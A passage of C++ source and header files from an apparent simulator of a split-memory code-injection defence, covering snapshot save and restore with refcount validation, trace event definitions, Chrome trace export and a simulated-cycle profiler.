    // the port registry (every live ListenSock is held by >=1 fd, so the
    // object table is complete) and the timer wheel (wait_deadline is the
    // per-process authority).
    for (const auto& s : t.socks) {
      ar.check(k.listen_ports_.emplace(s->port, s).second,
               "duplicate listen port");
    }
    for (const auto& up : k.procs_) {
      if (up->wait_deadline != 0) {
        k.timers_.insert({up->wait_deadline, up->pid});
      }
    }
  }
  sched(ar, k);
  logs(ar, k);
  trace_state(ar, k);
  injector(ar, k, inj);
  watchdog(ar, wd);
  ar.end();
  if constexpr (Ar::reading) {
    // Host-side decode/block caches restart cold; the billing-identity
    // contract (fuzz-oracle enforced) makes a cold resume bit-identical in
    // simulated figures — only host wall-clock re-warms.
    for (auto& cp : k.cores_) {
      cp->cpu.decode_cache().clear();
      cp->cpu.block_cache().clear();
    }
  }
}

void Access::validate_consistency(kernel::Kernel& k) {
  // Every frame's restored refcount must equal exactly the references the
  // address spaces will release on teardown (root + second-level tables +
  // one per non-split mapping + both frames of each split pair). Equality
  // proves ~AddressSpace can never double-unref — i.e. a structurally
  // valid but semantically corrupt snapshot still can't break teardown.
  arch::PhysicalMemory& pm = k.pm_;
  const u32 nf = pm.num_frames_;
  std::vector<u32> expected(nf, 0);
  const auto count = [&](u32 pfn, const char* what) {
    if (pfn >= nf) throw SnapshotError(std::string(what) + " out of range");
    ++expected[pfn];
  };
  try {
    for (const auto& up : k.procs_) {
      if (!up->as) continue;
      kernel::AddressSpace& as = *up->as;
      count(as.root_, "page-directory frame");
      for (u32 di = 0; di < 1024; ++di) {
        const arch::Pte pde{
            pm.read32(static_cast<u64>(as.root_) * kPageSize + di * 4)};
        if (!pde.present()) continue;
        count(pde.pfn(), "page-table frame");
        for (u32 ti = 0; ti < 1024; ++ti) {
          const arch::Pte pte{
              pm.read32(static_cast<u64>(pde.pfn()) * kPageSize + ti * 4)};
          if (!pte.present()) continue;
          const u32 vpn = (di << 10) | ti;
          if (!as.split_pages_.contains(vpn)) {
            count(pte.pfn(), "mapped frame");
          }
        }
      }
      for (const auto& [vpn, pair] : as.split_pages_) {
        count(pair.code_frame, "split code frame");
        count(pair.data_frame, "split data frame");
      }
    }
  } catch (const SnapshotError&) {
    throw;
  } catch (const std::exception& e) {
    throw SnapshotError(std::string("restored page tables unreadable: ") +
                        e.what());
  }
  for (u32 p = 0; p < nf; ++p) {
    if (expected[p] != pm.refcounts_[p]) {
      throw SnapshotError(
          "frame refcounts inconsistent with restored page tables (frame " +
          std::to_string(p) + ": expected " + std::to_string(expected[p]) +
          ", recorded " + std::to_string(pm.refcounts_[p]) + ")");
    }
  }
  // Listen-socket refcounts must equal the FdListen slots that reference
  // them — the count release_fd will decrement on teardown.
  std::map<const kernel::ListenSock*, int> listen_refs;
  for (const auto& up : k.procs_) {
    for (const kernel::FdEntry& e : up->fds) {
      if (const auto* l = std::get_if<kernel::FdListen>(&e)) {
        ++listen_refs[l->sock.get()];
      }
    }
  }
  for (const auto& [port, sock] : k.listen_ports_) {
    if (sock->refs != listen_refs[sock.get()]) {
      throw SnapshotError("listen-sock refcount inconsistent with fd table "
                          "(port " +
                          std::to_string(port) + ")");
    }
  }
}

void Access::neutralize(kernel::Kernel& k) {
  // A half-restored machine is unusable; make it safely destructible by
  // leaking simulated frames instead of walking possibly-corrupt tables.
  for (auto& up : k.procs_) {
    if (up && up->as) up->as->destroyed_ = true;
  }
  k.procs_.clear();
  for (auto& cp : k.cores_) {
    cp->runqueue = kernel::Kernel::RunQueue{};
    cp->runqueue.core_id = cp->id;
    cp->current.reset();
    cp->last_running.reset();
    cp->slice_used = 0;
  }
  k.active_core_ = 0;
  k.quantum_used_ = 0;
  k.pending_shootdowns_.clear();
  k.channel_waiters_.clear();
  k.timers_.clear();
  k.listen_ports_.clear();
  k.live_procs_ = 0;
}

void Access::save(std::ostream& os, kernel::Kernel& k,
                  inject::FaultInjector* inj, invariant::InvariantWatchdog* wd) {
  Writer ar(os);
  machine(ar, k, inj, wd);
  os.flush();
  if (!os) throw SnapshotError("write failed (stream error)");
}

void Access::restore(std::istream& is, kernel::Kernel& k,
                     inject::FaultInjector* inj,
                     invariant::InvariantWatchdog* wd) {
  try {
    Reader ar(is);
    machine(ar, k, inj, wd);
    validate_consistency(k);
  } catch (...) {
    neutralize(k);
    throw;
  }
}

void save_system(std::ostream& os, kernel::Kernel& k,
                 inject::FaultInjector* injector,
                 invariant::InvariantWatchdog* watchdog) {
  Access::save(os, k, injector, watchdog);
}

void restore_system(std::istream& is, kernel::Kernel& k,
                    inject::FaultInjector* injector,
                    invariant::InvariantWatchdog* watchdog) {
  Access::restore(is, k, injector, watchdog);
}

}  // namespace sm::snapshot

// --- Kernel member faces (defined here so the hook types are complete) -----

namespace sm::kernel {

void Kernel::save(std::ostream& os) {
  snapshot::Access::save(os, *this,
                         dynamic_cast<inject::FaultInjector*>(fault_source_),
                         dynamic_cast<invariant::InvariantWatchdog*>(
                             step_observer_));
}

void Kernel::restore(std::istream& is) {
  snapshot::Access::restore(is, *this,
                            dynamic_cast<inject::FaultInjector*>(fault_source_),
                            dynamic_cast<invariant::InvariantWatchdog*>(
                                step_observer_));
}

}  // namespace sm::kernel
