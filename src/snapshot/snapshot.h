// Whole-machine checkpoint/restore (ROADMAP item 5, DESIGN.md §15).
//
// A snapshot captures every bit of SIMULATED state: physical memory (page
// tables ride along — they live in simulated frames), frame generations,
// refcounts and free-list order, both TLBs with LRU stamps and version
// clocks, CPU registers including the trap flag, the full kernel object
// graph (process slab, runqueue order, wait queues, fd tables with shared
// pipe/channel/file identity, filesystem, images, RNG cursor, timeslice
// position), the trace ring + profiler (when tracing is on), and — when
// attached — the fault injector's schedule cursor/armed queues and the
// invariant watchdog's audit state.
//
// HOST-side derived state is deliberately NOT serialized: the decode
// cache, block cache and the MMU's fetch/data memos are dropped cold on
// restore. The billing-identity contract (fuzz-oracle enforced) makes this
// sound: those caches bill exactly what the slow path they shortcut would
// have, so a cold-cache resume produces bit-identical simulated figures —
// only host wall-clock re-warms.
//
// Restore is an in-place reset: the target kernel must be constructed with
// the SAME KernelConfig and protection engine as the saved one (validated
// field by field; mismatch throws SnapshotError) and may have run
// arbitrarily far — its state is torn down and replaced. This is what the
// fuzz fork-server leans on: one kernel object, restored thousands of
// times, never reallocating its 64 MiB of simulated RAM.
//
// Save points are Kernel::run() exit boundaries, which are always whole-
// instruction boundaries; mid-DBT-block state cannot escape (step_block
// clips at the budget). The single-step window (TF armed, debug trap
// pending) is representable architecturally — flags.TF, the PTE left
// unrestricted in simulated memory, Process::pending_split_vaddr, and the
// profiler's pending-step hand-off all serialize — which the window tests
// in tests/snapshot/ prove.
#pragma once

#include <iosfwd>

namespace sm::arch {
class Mmu;
class PhysicalMemory;
class Tlb;
}  // namespace sm::arch
namespace sm::kernel {
class Kernel;
}
namespace sm::metrics {
struct Stats;
}
namespace sm::inject {
class FaultInjector;
}
namespace sm::invariant {
class InvariantWatchdog;
}

namespace sm::snapshot {

// The single friend the stateful classes grant. All serializer code that
// needs private state goes through here, so the friend surface of each
// component is one line. The per-component schema functions are member
// templates over the archive type (Writer or Reader), so save and restore
// share one schema and cannot drift.
struct Access {
  static void save(std::ostream& os, kernel::Kernel& k,
                   inject::FaultInjector* injector,
                   invariant::InvariantWatchdog* watchdog);
  static void restore(std::istream& is, kernel::Kernel& k,
                      inject::FaultInjector* injector,
                      invariant::InvariantWatchdog* watchdog);

 private:
  // Shared-object identity tables (channels/pipes/file nodes), built in a
  // deterministic discovery order; fd entries reference objects by index.
  struct Tables;
  static Tables collect(kernel::Kernel& k);

  template <class Ar>
  static void machine(Ar& ar, kernel::Kernel& k,
                      inject::FaultInjector* injector,
                      invariant::InvariantWatchdog* watchdog);
  template <class Ar>
  static void config(Ar& ar, kernel::Kernel& k);
  template <class Ar>
  static void phys(Ar& ar, arch::PhysicalMemory& pm);
  template <class Ar>
  static void tlb(Ar& ar, const char* name, arch::Tlb& t);
  template <class Ar>
  static void mmu(Ar& ar, arch::Mmu& m);
  template <class Ar>
  static void stats(Ar& ar, metrics::Stats& s);
  template <class Ar>
  static void objects(Ar& ar, Tables& t);
  template <class Ar>
  static void fs(Ar& ar, kernel::Kernel& k, Tables& t);
  template <class Ar>
  static void images(Ar& ar, kernel::Kernel& k);
  template <class Ar>
  static void procs(Ar& ar, kernel::Kernel& k, Tables& t);
  template <class Ar>
  static void sched(Ar& ar, kernel::Kernel& k);
  template <class Ar>
  static void logs(Ar& ar, kernel::Kernel& k);
  template <class Ar>
  static void trace_state(Ar& ar, kernel::Kernel& k);
  template <class Ar>
  static void injector(Ar& ar, kernel::Kernel& k, inject::FaultInjector* inj);
  template <class Ar>
  static void watchdog(Ar& ar, invariant::InvariantWatchdog* wd);

  // Restore-side structural proof that tearing the restored machine down
  // can never throw from a destructor: every frame's restored refcount must
  // equal exactly the references the address spaces will release.
  static void validate_consistency(kernel::Kernel& k);
  // On a failed restore, make the half-restored kernel safely destructible.
  static void neutralize(kernel::Kernel& k);
};

// Free-function faces of Kernel::save/Kernel::restore for embedders that
// hold the injector/watchdog by concrete type. Kernel::save() discovers
// attached hooks via its FaultSource/StepObserver pointers; these let a
// caller be explicit instead.
void save_system(std::ostream& os, kernel::Kernel& k,
                 inject::FaultInjector* injector = nullptr,
                 invariant::InvariantWatchdog* watchdog = nullptr);
void restore_system(std::istream& is, kernel::Kernel& k,
                    inject::FaultInjector* injector = nullptr,
                    invariant::InvariantWatchdog* watchdog = nullptr);

}  // namespace sm::snapshot
