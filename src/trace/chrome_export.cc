#include "trace/chrome_export.h"

#include <cstdio>
#include <sstream>

namespace sm::trace {

namespace {

const char* kind_cat(EventKind k) {
  switch (k) {
    case EventKind::kTrap:
      return "trap";
    case EventKind::kTlbFill:
    case EventKind::kTlbEvict:
    case EventKind::kTlbFlush:
    case EventKind::kTlbInvlpg:
      return "tlb";
    case EventKind::kSplitItlbLoad:
    case EventKind::kSplitDtlbLoad:
    case EventKind::kSplitDtlbFallback:
    case EventKind::kSingleStepOpen:
    case EventKind::kSingleStepClose:
    case EventKind::kObserveLockdown:
    case EventKind::kDetection:
      return "split";
    case EventKind::kContextSwitch:
      return "sched";
    case EventKind::kSyscall:
    case EventKind::kDemandPage:
    case EventKind::kCowCopy:
    case EventKind::kSoftTlbFill:
    case EventKind::kSebekInput:
      return "kernel";
    case EventKind::kFaultInjected:
    case EventKind::kInvariantViolation:
    case EventKind::kDegradeUnsplit:
      return "robustness";
    case EventKind::kBlockBuild:
    case EventKind::kBlockInvalidate:
      return "dbt";
    case EventKind::kIpiSend:
    case EventKind::kIpiAck:
    case EventKind::kTlbShootdown:
      return "smp";
    case EventKind::kTimerFire:
    case EventKind::kWaitTimeout:
      return "timer";
    case EventKind::kSockConnect:
    case EventKind::kSockRefused:
    case EventKind::kSockAccept:
      return "sock";
    case EventKind::kCount:
      break;
  }
  return "?";
}

}  // namespace

std::string chrome_trace_json(const RingBuffer<Event>& events) {
  std::ostringstream os;
  os << "{\"traceEvents\":[";
  for (std::size_t i = 0; i < events.size(); ++i) {
    const Event& e = events[i];
    if (i) os << ",";
    const char* ph = "i";
    const char* name = kind_name(e.kind);
    if (e.kind == EventKind::kSingleStepOpen) {
      ph = "B";
      name = "single-step";
    } else if (e.kind == EventKind::kSingleStepClose) {
      ph = "E";
      name = "single-step";
    }
    char vaddr[16];
    std::snprintf(vaddr, sizeof(vaddr), "0x%08x", e.vaddr);
    os << "{\"name\":\"" << name << "\",\"cat\":\"" << kind_cat(e.kind)
       << "\",\"ph\":\"" << ph << "\",\"ts\":" << e.cycles
       << ",\"pid\":" << e.pid << ",\"tid\":" << e.pid;
    if (*ph == 'i') os << ",\"s\":\"t\"";
    os << ",\"args\":{\"vaddr\":\"" << vaddr << "\",\"info\":" << e.info
       << ",\"arg\":" << static_cast<unsigned>(e.arg) << "}}";
  }
  os << "],\"displayTimeUnit\":\"ns\"}";
  return os.str();
}

}  // namespace sm::trace
