// Chrome trace_event JSON export (load via about://tracing or Perfetto).
//
// Simulated cycles map 1:1 onto the viewer's microsecond timeline. Most
// events export as instants; a single-step window (Algorithm 2) exports as
// a begin/end duration pair so the open PTE window is visible as a span.
#pragma once

#include <string>

#include "trace/event.h"
#include "trace/ring_buffer.h"

namespace sm::trace {

// Renders the surviving events as {"traceEvents":[...]}. Deterministic:
// same events, same bytes.
std::string chrome_trace_json(const RingBuffer<Event>& events);

}  // namespace sm::trace
