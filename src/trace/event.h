// Structured trace events: the observability schema for the simulator.
//
// Every architecturally interesting moment — traps, TLB fills/evictions/
// flushes, the split-memory Algorithm 1/2/3 decisions, context switches,
// syscalls — is recorded as one fixed-size Event stamped with the simulated
// cycle clock, the current pid, and the virtual address involved. The
// remaining two fields are kind-specific scratch (documented per kind
// below) so the record stays 24 bytes and the ring buffer stays cheap.
#pragma once

#include <cstdint>

namespace sm::trace {

using u8 = std::uint8_t;
using u16 = std::uint16_t;
using u32 = std::uint32_t;
using u64 = std::uint64_t;

enum class EventKind : u8 {
  // arg = arch::TrapKind, vaddr = faulting address (page faults),
  // info = packed PageFaultInfo bits (see kPf* below).
  kTrap = 0,
  // arg = side (kSideItlb/kSideDtlb), vaddr = page va, info = pfn.
  kTlbFill,
  // arg = side, vaddr = evicted page va, info = evicted pfn.
  kTlbEvict,
  // arg = side (kSideBoth for a CR3 reload).
  kTlbFlush,
  // vaddr = invalidated page va.
  kTlbInvlpg,
  // Algorithm 1, I-side resolution: vaddr = fetch va, info = code pfn.
  kSplitItlbLoad,
  // Algorithm 1, D-side resolution: vaddr = data va, info = data pfn.
  kSplitDtlbLoad,
  // Footnote-1 walk failure: D-side fell back to single-stepping.
  kSplitDtlbFallback,
  // Algorithm 2: TF set, PTE left unrestricted for one instruction.
  // vaddr = unrestricted page va.
  kSingleStepOpen,
  // Algorithm 2: debug trap re-restricted the PTE. vaddr = page va.
  kSingleStepClose,
  // Algorithm 3 observe mode: address space quietly unsplit.
  kObserveLockdown,
  // Injected code detected. vaddr = eip, info = pid of the victim.
  kDetection,
  // Context switch. info = outgoing pid (pid field = incoming).
  kContextSwitch,
  // Syscall issued. info = syscall number.
  kSyscall,
  // Demand-paged a frame. vaddr = page va, info = new pfn.
  kDemandPage,
  // Copy-on-write break. vaddr = page va, info = pfn at fault time.
  kCowCopy,
  // Software-TLB fill performed by the OS (paper SS4.7).
  kSoftTlbFill,
  // Sebek-style honeypot shell input. info = line length in bytes.
  kSebekInput,
  // Fault injector fired. vaddr = fault site (page va or 0), info = schedule
  // index, arg = inject::FaultKind.
  kFaultInjected,
  // Invariant watchdog flagged a protocol violation. vaddr = page va,
  // info = schedule index of the blamed fault (or ~0u), arg = invariant id.
  kInvariantViolation,
  // Graceful degradation: page locked unsplit (OOM at split time or retry
  // budget exhausted). vaddr = page va, info = kept pfn.
  kDegradeUnsplit,
  // Basic-block cache (mini-DBT) recorded a block. vaddr = entry pc,
  // info = instruction count.
  kBlockBuild,
  // A store inside a running block hit the block's own code frame; the
  // block was killed mid-flight. vaddr = pc after the store, info = pfn.
  kBlockInvalidate,
  // SMP shootdown: an IPI was sent to a remote core whose TLBs may cache
  // the mutated translation. vaddr = page va, info = target core id.
  kIpiSend,
  // SMP shootdown: the target invalidated its TLBs and acknowledged.
  // vaddr = page va, info = acking core id.
  kIpiAck,
  // SMP shootdown round completed (>= 1 target). vaddr = page va,
  // info = bitmask of targeted core ids.
  kTlbShootdown,
  // Timer wheel fired a deadline. info = woken pid, vaddr = 0.
  kTimerFire,
  // A blocked wait's retry consumed its expired deadline and returned
  // ERR_TIMEDOUT (timeout-handling attribution). info = syscall number.
  kWaitTimeout,
  // connect() queued a connection. vaddr = port, info = backlog depth
  // after the push.
  kSockConnect,
  // connect() was refused. vaddr = port, info = backlog depth (== capacity
  // when the queue overflowed; 0 when no listener was bound), arg = 1 when
  // the refusal was an injected drop-connection fault.
  kSockRefused,
  // accept() popped a connection. vaddr = port, info = backlog depth
  // after the pop.
  kSockAccept,
  kCount,
};

// arg values for the TLB event kinds.
inline constexpr u8 kSideItlb = 0;
inline constexpr u8 kSideDtlb = 1;
inline constexpr u8 kSideBoth = 2;

// info bit layout for kTrap page faults.
inline constexpr u32 kPfPresent = 1u << 0;
inline constexpr u32 kPfWrite = 1u << 1;
inline constexpr u32 kPfUser = 1u << 2;
inline constexpr u32 kPfFetch = 1u << 3;
inline constexpr u32 kPfSoftMiss = 1u << 4;

struct Event {
  u64 cycles = 0;  // simulated clock at emission
  u32 pid = 0;     // scheduled process (0 = kernel/no process)
  u32 vaddr = 0;   // kind-specific virtual address
  u32 info = 0;    // kind-specific payload (see EventKind)
  EventKind kind = EventKind::kTrap;
  u8 arg = 0;   // kind-specific small payload (see EventKind)
  u8 core = 0;  // core the event was emitted on (always 0 at cores=1)
};

const char* kind_name(EventKind k);

}  // namespace sm::trace
