#include "trace/profiler.h"

#include <algorithm>
#include <cstdio>
#include <sstream>

namespace sm::trace {

const char* kind_name(EventKind k) {
  switch (k) {
    case EventKind::kTrap:
      return "trap";
    case EventKind::kTlbFill:
      return "tlb-fill";
    case EventKind::kTlbEvict:
      return "tlb-evict";
    case EventKind::kTlbFlush:
      return "tlb-flush";
    case EventKind::kTlbInvlpg:
      return "tlb-invlpg";
    case EventKind::kSplitItlbLoad:
      return "split-itlb-load";
    case EventKind::kSplitDtlbLoad:
      return "split-dtlb-load";
    case EventKind::kSplitDtlbFallback:
      return "split-dtlb-fallback";
    case EventKind::kSingleStepOpen:
      return "single-step-open";
    case EventKind::kSingleStepClose:
      return "single-step-close";
    case EventKind::kObserveLockdown:
      return "observe-lockdown";
    case EventKind::kDetection:
      return "detection";
    case EventKind::kContextSwitch:
      return "context-switch";
    case EventKind::kSyscall:
      return "syscall";
    case EventKind::kDemandPage:
      return "demand-page";
    case EventKind::kCowCopy:
      return "cow-copy";
    case EventKind::kSoftTlbFill:
      return "soft-tlb-fill";
    case EventKind::kSebekInput:
      return "sebek-input";
    case EventKind::kFaultInjected:
      return "fault-injected";
    case EventKind::kInvariantViolation:
      return "invariant-violation";
    case EventKind::kDegradeUnsplit:
      return "degrade-unsplit";
    case EventKind::kBlockBuild:
      return "block-build";
    case EventKind::kBlockInvalidate:
      return "block-invalidate";
    case EventKind::kIpiSend:
      return "ipi-send";
    case EventKind::kIpiAck:
      return "ipi-ack";
    case EventKind::kTlbShootdown:
      return "tlb-shootdown";
    case EventKind::kTimerFire:
      return "timer-fire";
    case EventKind::kWaitTimeout:
      return "wait-timeout";
    case EventKind::kSockConnect:
      return "sock-connect";
    case EventKind::kSockRefused:
      return "sock-refused";
    case EventKind::kSockAccept:
      return "sock-accept";
    case EventKind::kCount:
      break;
  }
  return "?";
}

const char* category_name(Category c) {
  switch (c) {
    case Category::kExec:
      return "exec";
    case Category::kTlbHit:
      return "tlb-hit";
    case Category::kTlbWalk:
      return "tlb-walk";
    case Category::kSplitItlbLoad:
      return "split-itlb-load";
    case Category::kSplitDtlbLoad:
      return "split-dtlb-load";
    case Category::kPageFaultTrap:
      return "page-fault-trap";
    case Category::kDebugTrap:
      return "debug-trap";
    case Category::kInvalidOpcodeTrap:
      return "invalid-opcode-trap";
    case Category::kSyscall:
      return "syscall";
    case Category::kSoftTlbFill:
      return "soft-tlb-fill";
    case Category::kDemandPage:
      return "demand-page";
    case Category::kCowCopy:
      return "cow-copy";
    case Category::kKernelTouch:
      return "kernel-touch";
    case Category::kIcacheSync:
      return "icache-sync";
    case Category::kContextSwitch:
      return "context-switch";
    case Category::kOther:
      return "other";
    case Category::kCount:
      break;
  }
  return "?";
}

const char* cause_name(Cause c) {
  switch (c) {
    case Cause::kNone:
      return "none";
    case Cause::kCold:
      return "cold";
    case Cause::kCapacity:
      return "capacity";
    case Cause::kCtxSwitchFlush:
      return "ctxsw-flush";
    case Cause::kInvalidation:
      return "invalidation";
    case Cause::kCount:
      break;
  }
  return "?";
}

void Profiler::bucket_add(Category c, Cause cause, u32 pid, u32 vpn,
                          u64 cycles) {
  if (cycles == 0) return;
  buckets_[bucket_key(c, cause, pid, vpn)] += cycles;
  total_cycles_ += cycles;
}

Cause Profiler::classify_and_record_fill(u32 pid, u32 vpn, u8 side) {
  const u64 key = fill_key(pid, vpn, side);
  Cause cause = Cause::kCold;
  auto it = fills_.find(key);
  if (it != fills_.end()) {
    if (it->second.invalidated) {
      cause = Cause::kInvalidation;
    } else if (it->second.epoch < flush_epoch_) {
      cause = Cause::kCtxSwitchFlush;
    } else {
      cause = Cause::kCapacity;
    }
  }
  fills_[key] = Fill{flush_epoch_, false};
  return cause;
}

void Profiler::refine_scope(Category c, Cause cause) {
  if (!scope_.active || scope_.refined) return;
  scope_.refined = true;
  scope_.refined_cat = c;
  scope_.refined_cause = cause;
}

void Profiler::on_event(const Event& e) {
  ++event_counts_[static_cast<std::size_t>(e.kind)];
  const u32 vpn = e.vaddr >> 12;
  switch (e.kind) {
    case EventKind::kTlbFlush:
      ++flush_epoch_;
      break;
    case EventKind::kTlbInvlpg: {
      for (u8 side : {kSideItlb, kSideDtlb}) {
        auto it = fills_.find(fill_key(e.pid, vpn, side));
        if (it != fills_.end()) it->second.invalidated = true;
      }
      break;
    }
    case EventKind::kTlbFill:
      // Hardware fill: record it so a later split reload of the same page
      // classifies against the *most recent* residency, not the first.
      if (e.arg == kSideItlb || e.arg == kSideDtlb) {
        fills_[fill_key(e.pid, vpn, e.arg)] = Fill{flush_epoch_, false};
      }
      break;
    case EventKind::kSplitItlbLoad:
      refine_scope(Category::kSplitItlbLoad,
                   classify_and_record_fill(e.pid, vpn, kSideItlb));
      break;
    case EventKind::kSplitDtlbLoad: {
      const Cause cause = classify_and_record_fill(e.pid, vpn, kSideDtlb);
      // If this D-TLB preload rides inside an I-side resolution, the I
      // refinement stands — the preload is part of that protocol.
      refine_scope(Category::kSplitDtlbLoad, cause);
      break;
    }
    case EventKind::kSingleStepOpen:
      // The debug trap that closes this window belongs to the split load
      // that opened it.
      if (scope_.active && scope_.refined) {
        pending_step_[e.pid] = {scope_.refined_cat, scope_.refined_cause};
      } else {
        pending_step_[e.pid] = {Category::kDebugTrap, Cause::kNone};
      }
      break;
    case EventKind::kSingleStepClose:
      pending_step_.erase(e.pid);
      break;
    default:
      break;
  }
}

void Profiler::charge(Category c, u64 cycles, u32 pid, u32 vaddr) {
  if (scope_.active) {
    scope_.cycles[static_cast<std::size_t>(c)] += cycles;
    return;
  }
  bucket_add(c, Cause::kNone, pid, vaddr >> 12, cycles);
}

void Profiler::begin_scope(Category c, u32 pid, u32 vaddr) {
  scope_ = Scope{};
  scope_.active = true;
  scope_.pid = pid;
  scope_.vpn = vaddr >> 12;
  if (c == Category::kDebugTrap) {
    auto it = pending_step_.find(pid);
    if (it != pending_step_.end() && it->second.first != Category::kDebugTrap) {
      scope_.refined = true;
      scope_.refined_cat = it->second.first;
      scope_.refined_cause = it->second.second;
    }
  }
}

void Profiler::end_scope() {
  if (!scope_.active) return;
  if (scope_.refined) {
    u64 total = 0;
    for (u64 c : scope_.cycles) total += c;
    bucket_add(scope_.refined_cat, scope_.refined_cause, scope_.pid,
               scope_.vpn, total);
  } else {
    for (std::size_t i = 0; i < scope_.cycles.size(); ++i) {
      bucket_add(static_cast<Category>(i), Cause::kNone, scope_.pid,
                 scope_.vpn, scope_.cycles[i]);
    }
  }
  scope_ = Scope{};
}

ProfileSummary Profiler::snapshot() const {
  ProfileSummary s;
  s.total_cycles = total_cycles_;
  s.event_counts = event_counts_;
  s.buckets.reserve(buckets_.size());
  for (const auto& [key, cycles] : buckets_) {
    Bucket b;
    b.cause = static_cast<Cause>(key & 0x7);
    b.category = static_cast<Category>((key >> 3) & 0x1f);
    b.vpn = static_cast<u32>((key >> 8) & 0xfffff);
    b.pid = static_cast<u32>(key >> 28);
    b.cycles = cycles;
    s.buckets.push_back(b);
  }
  std::sort(s.buckets.begin(), s.buckets.end(),
            [](const Bucket& a, const Bucket& b) {
              if (a.category != b.category) return a.category < b.category;
              if (a.cause != b.cause) return a.cause < b.cause;
              if (a.pid != b.pid) return a.pid < b.pid;
              return a.vpn < b.vpn;
            });
  return s;
}

void Profiler::clear() {
  buckets_.clear();
  fills_.clear();
  pending_step_.clear();
  event_counts_.fill(0);
  flush_epoch_ = 0;
  total_cycles_ = 0;
  scope_ = Scope{};
}

u64 ProfileSummary::category_cycles(Category c) const {
  u64 total = 0;
  for (const Bucket& b : buckets) {
    if (b.category == c) total += b.cycles;
  }
  return total;
}

u64 ProfileSummary::cause_cycles(Cause c) const {
  u64 total = 0;
  for (const Bucket& b : buckets) {
    if (b.cause != c) continue;
    if (b.category == Category::kSplitItlbLoad ||
        b.category == Category::kSplitDtlbLoad ||
        b.category == Category::kSoftTlbFill) {
      total += b.cycles;
    }
  }
  return total;
}

u64 ProfileSummary::ctx_switch_flush_cycles() const {
  return category_cycles(Category::kContextSwitch) +
         cause_cycles(Cause::kCtxSwitchFlush);
}

u64 ProfileSummary::capacity_fault_cycles() const {
  return cause_cycles(Cause::kCapacity);
}

namespace {

std::string pct(u64 part, u64 whole) {
  if (whole == 0) return "0.0%";
  const u64 permille = part * 1000 / whole;
  char buf[32];
  std::snprintf(buf, sizeof(buf), "%llu.%llu%%",
                static_cast<unsigned long long>(permille / 10),
                static_cast<unsigned long long>(permille % 10));
  return buf;
}

std::string pad(const std::string& s, std::size_t width) {
  return s.size() >= width ? s : s + std::string(width - s.size(), ' ');
}

std::string lpad(u64 v, std::size_t width) {
  std::string s = std::to_string(v);
  return s.size() >= width ? s : std::string(width - s.size(), ' ') + s;
}

}  // namespace

std::string format_summary(const ProfileSummary& s, u64 requests) {
  // Cycles-per-request column, one decimal (only with a request count).
  const auto per_req = [requests](u64 cycles) {
    char buf[32];
    std::snprintf(buf, sizeof(buf), "%12.1f/req",
                  static_cast<double>(cycles) /
                      static_cast<double>(requests ? requests : 1));
    return std::string(buf);
  };
  std::ostringstream os;
  os << "=== trace summary ===\n";
  os << "events: " << s.events_recorded << " recorded, " << s.events_dropped
     << " dropped (ring capacity " << s.ring_capacity << ")\n";
  os << "  ";
  bool first = true;
  for (std::size_t i = 0; i < s.event_counts.size(); ++i) {
    if (s.event_counts[i] == 0) continue;
    if (!first) os << " ";
    os << kind_name(static_cast<EventKind>(i)) << "=" << s.event_counts[i];
    first = false;
  }
  if (first) os << "(none)";
  os << "\n";

  os << "cycles by category (total " << s.total_cycles;
  if (requests) os << ", " << requests << " requests";
  os << "):\n";
  for (std::size_t i = 0; i < static_cast<std::size_t>(Category::kCount);
       ++i) {
    const Category c = static_cast<Category>(i);
    const u64 cyc = s.category_cycles(c);
    if (cyc == 0) continue;
    os << "  " << pad(category_name(c), 20) << lpad(cyc, 12) << "  "
       << pct(cyc, s.total_cycles);
    if (requests) os << per_req(cyc);
    os << "\n";
    if (c == Category::kSplitItlbLoad || c == Category::kSplitDtlbLoad ||
        c == Category::kSoftTlbFill) {
      os << "      cause:";
      for (Cause cause : {Cause::kCtxSwitchFlush, Cause::kCapacity,
                          Cause::kCold, Cause::kInvalidation, Cause::kNone}) {
        u64 part = 0;
        for (const Bucket& b : s.buckets) {
          if (b.category == c && b.cause == cause) part += b.cycles;
        }
        if (part) {
          os << " " << cause_name(cause) << "=" << part;
          if (requests) {
            char buf[32];
            std::snprintf(buf, sizeof(buf), " (%.1f/req)",
                          static_cast<double>(part) /
                              static_cast<double>(requests));
            os << buf;
          }
        }
      }
      os << "\n";
    }
  }

  const u64 flush = s.ctx_switch_flush_cycles();
  const u64 capacity = s.capacity_fault_cycles();
  os << "SS4.6 decomposition:\n";
  os << "  context-switch flushes " << lpad(flush, 12) << " cycles ("
     << "cr3-reload " << s.category_cycles(Category::kContextSwitch)
     << " + flush-caused reloads " << s.cause_cycles(Cause::kCtxSwitchFlush)
     << ")";
  if (requests) os << per_req(flush);
  os << "\n";
  os << "  tlb capacity faults    " << lpad(capacity, 12) << " cycles";
  if (requests) os << per_req(capacity);
  os << "\n";
  os << "  compulsory (cold)      " << lpad(s.cause_cycles(Cause::kCold), 12)
     << " cycles";
  if (requests) os << per_req(s.cause_cycles(Cause::kCold));
  os << "\n";
  os << "  invlpg invalidations   "
     << lpad(s.cause_cycles(Cause::kInvalidation), 12) << " cycles";
  if (requests) os << per_req(s.cause_cycles(Cause::kInvalidation));
  os << "\n";

  // Hottest pages, for the forensic "where did the cycles go" view.
  std::vector<Bucket> hot = s.buckets;
  std::sort(hot.begin(), hot.end(), [](const Bucket& a, const Bucket& b) {
    if (a.cycles != b.cycles) return a.cycles > b.cycles;
    if (a.pid != b.pid) return a.pid < b.pid;
    if (a.vpn != b.vpn) return a.vpn < b.vpn;
    if (a.category != b.category) return a.category < b.category;
    return a.cause < b.cause;
  });
  os << "hot buckets:\n";
  const std::size_t n = hot.size() < 8 ? hot.size() : 8;
  for (std::size_t i = 0; i < n; ++i) {
    const Bucket& b = hot[i];
    char page[16];
    std::snprintf(page, sizeof(page), "0x%05x", b.vpn);
    os << "  pid " << b.pid << " page " << page << " "
       << pad(category_name(b.category), 20) << pad(cause_name(b.cause), 12)
       << lpad(b.cycles, 12) << "\n";
  }
  return os.str();
}

}  // namespace sm::trace
