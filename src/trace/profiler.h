// Simulated-cycle profiler: attributes every CostModel charge to a
// (category, cause, process, page) bucket. (The per-instruction exec and
// TLB-hit charges are the one exception: their sites are the simulator's
// hottest paths and carry no mirror; TraceSink::summary() reconciles them
// as the exec residual, so the summary still accounts for every cycle.)
//
// The paper's SS4.6 explains split-memory overhead as exactly two effects:
// TLB capacity faults and context-switch flushes. To reproduce that
// decomposition we must know, for each split reload, WHY the entry was
// gone. The profiler keeps a flush-epoch clock (bumped on every full TLB
// flush) and a per-(pid, page, side) record of the last fill; when a split
// load fires, the cause falls out:
//
